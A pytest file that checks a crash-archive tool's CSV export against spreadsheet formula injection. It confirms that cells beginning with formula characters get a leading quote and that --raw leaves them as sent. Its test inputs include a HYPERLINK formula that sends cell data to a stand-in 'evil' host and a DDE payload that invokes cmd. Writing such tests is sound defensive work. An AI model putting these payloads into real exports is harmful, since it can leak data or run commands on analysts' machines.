"""What an endpoint may say, all the way into a spreadsheet: no cell of an export computes."""

import csv
import io
import json
import subprocess
import time

import pytest
from support.clickhouse_data import command, insert
from support.engines import Database

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]
SQL = "SELECT host, signature_code, signature_module, -1 FROM events ORDER BY host"


def crash(number: int, formula: str) -> bytes:
    """Of host `number`, which says the formula wherever it may say something."""
    event = {"v": 1, "id": f"csv-{number}", "kind": "crash", "fleet": "acme", "host": f"h-{number}"}
    event |= {"ts": int(time.time() * 1000), "ring": formula, "os": formula, "model": formula, "updates": []}
    return json.dumps(event | {"signature": {"code": formula, "module": "m" + formula}}).encode()


@pytest.fixture
def stored(database: Database) -> Database:
    """A crash for each formula, stored as the archive does it."""
    insert(database.client(), [crash(number, formula) for number, formula in enumerate(FORMULAS)])
    return database


def exported(stored: Database, *arguments: str) -> list[list[str]]:
    """The cells of `andon query … --format csv`, as an analyst runs it."""
    argv, environ = command(stored, "query", SQL, "--format", "csv", *arguments, reads=True)
    done = subprocess.run(argv, env=environ, capture_output=True, timeout=180, check=False)
    assert done.returncode == 0, done.stderr
    return list(csv.reader(io.StringIO(done.stdout.decode(), newline="")))


def test_a_formula_of_an_endpoint_is_text_in_the_export(stored: Database) -> None:
    """Each has a ' before it; what only contains one, and numbers, stay; with --raw all is as it was sent."""
    header, *rows = exported(stored)
    assert rows == [[f"h-{n}", "'" + formula, "m" + formula, "-1"] for n, formula in enumerate(FORMULAS)]
    assert header == ["host", "signature_code", "signature_module", "'-1"]
    _, *rows = exported(stored, "--raw")
    assert rows == [[f"h-{n}", formula, "m" + formula, "-1"] for n, formula in enumerate(FORMULAS)]
